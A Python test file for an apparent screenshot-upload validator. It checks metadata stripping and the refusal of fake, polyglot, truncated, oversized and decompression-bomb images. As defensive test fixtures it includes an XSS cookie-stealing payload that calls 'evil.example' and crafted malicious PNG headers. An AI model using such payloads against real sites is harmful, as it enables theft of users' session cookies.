"""The screenshot checks: a real JPEG, PNG or WebP is re-encoded without its metadata; anything else is refused
with a clear code before anything is stored."""

import io
import struct
import zlib

import pytest
from PIL import Image, PngImagePlugin
from pinbid_kit.errors import Invalid
from pinbid_social.screenshots import MAX_BYTES, BodyTooLarge, check


def image_bytes(kind: str = "PNG", size=(64, 40), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 90)).save(out, kind, **save)
    return out.getvalue()


def refused(data: bytes) -> Invalid:
    with pytest.raises(Invalid) as caught:
        check(data)
    return caught.value


@pytest.mark.parametrize("kind,content_type", [("PNG", "image/png"), ("JPEG", "image/jpeg"),
                                               ("WEBP", "image/webp")])
def test_a_real_image_is_reencoded_in_its_own_format(kind, content_type):
    shot = check(image_bytes(kind))
    assert (shot.content_type, shot.width, shot.height) == (content_type, 64, 40)
    again = Image.open(io.BytesIO(shot.data))
    assert again.format == kind and again.size == (64, 40)


def test_metadata_is_stripped_exif_and_text_chunks():
    exif = Image.Exif()
    exif[0x010F] = "SecretPhone"  # Make
    exif[0x0131] = "GPS-Tagger 1.0"  # Software
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "white").save(out, "JPEG", exif=exif.tobytes())
    assert b"SecretPhone" in out.getvalue()
    shot = check(out.getvalue())
    assert b"SecretPhone" not in shot.data and not Image.open(io.BytesIO(shot.data)).getexif()

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Maya at 51.5N 0.1W")
    png = io.BytesIO()
    Image.new("RGB", (32, 32), "white").save(png, "PNG", pnginfo=info)
    cleaned = check(png.getvalue()).data
    assert b"Maya at" not in cleaned and Image.open(io.BytesIO(cleaned)).info.get("Author") is None


def test_a_text_file_named_png_is_not_an_image():
    problem = refused(b"just some words, saved as screenshot.png\n" * 10)
    assert problem.code == "not_an_image" and problem.status == 422


def test_a_gif_or_bmp_is_refused_whatever_it_is_called():
    for kind in ("GIF", "BMP"):
        assert refused(image_bytes(kind)).code == "not_an_image"


def test_a_png_with_a_script_appended_is_refused():
    problem = refused(image_bytes("PNG") + b"<script>alert(document.cookie)</script>")
    assert problem.code == "not_an_image" and "besides the image" in problem.detail


def test_a_png_with_a_script_inside_a_text_chunk_is_refused():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>fetch('//evil.example/'+document.cookie)</script>")
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, "PNG", pnginfo=info)
    assert refused(out.getvalue()).code == "not_an_image"


def test_a_jpeg_with_bytes_after_its_end_is_refused():
    assert refused(image_bytes("JPEG") + b"PK\x03\x04 a zip file rides along").code == "not_an_image"


def test_a_truncated_image_is_refused():
    whole = image_bytes("PNG", size=(300, 300))
    assert refused(whole[: len(whole) // 2]).code == "not_an_image"
    jpeg = image_bytes("JPEG", size=(300, 300))
    assert refused(jpeg[: len(jpeg) // 2]).code == "not_an_image"


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a huge size: a decompression bomb's first step."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + \
        chunk(b"IEND", b"")


def test_an_image_over_40_megapixels_is_refused_before_decoding():
    problem = refused(png_claiming(8000, 5001))
    assert problem.code == "image_too_large" and "40 megapixels" in problem.detail
    assert refused(png_claiming(100_000, 100_000)).code == "image_too_large"
    assert check(image_bytes("PNG", size=(8000, 5000))).width == 8000  # exactly 40 megapixels is allowed


def test_more_than_5_mb_is_refused_with_413():
    with pytest.raises(BodyTooLarge) as caught:
        check(b"\x89PNG" + b"\0" * MAX_BYTES)
    assert caught.value.status == 413


def test_icc_profiles_and_webp_exif_are_stripped_too():
    from PIL import ImageCms

    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for kind in ("PNG", "JPEG", "WEBP"):
        exif = Image.Exif()
        exif[0x010F] = "SecretPhone"
        out = io.BytesIO()
        Image.new("RGB", (24, 24), "white").save(out, kind, icc_profile=icc, exif=exif.tobytes())
        assert Image.open(io.BytesIO(out.getvalue())).info.get("icc_profile")
        cleaned = Image.open(io.BytesIO(check(out.getvalue()).data))
        assert not cleaned.info.get("icc_profile") and not cleaned.getexif(), kind


def test_an_image_turned_by_its_exif_is_stored_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    out = io.BytesIO()
    Image.new("RGB", (40, 20), "white").save(out, "JPEG", exif=exif.tobytes())
    shot = check(out.getvalue())
    assert Image.open(io.BytesIO(shot.data)).size == (20, 40) == (shot.width, shot.height)
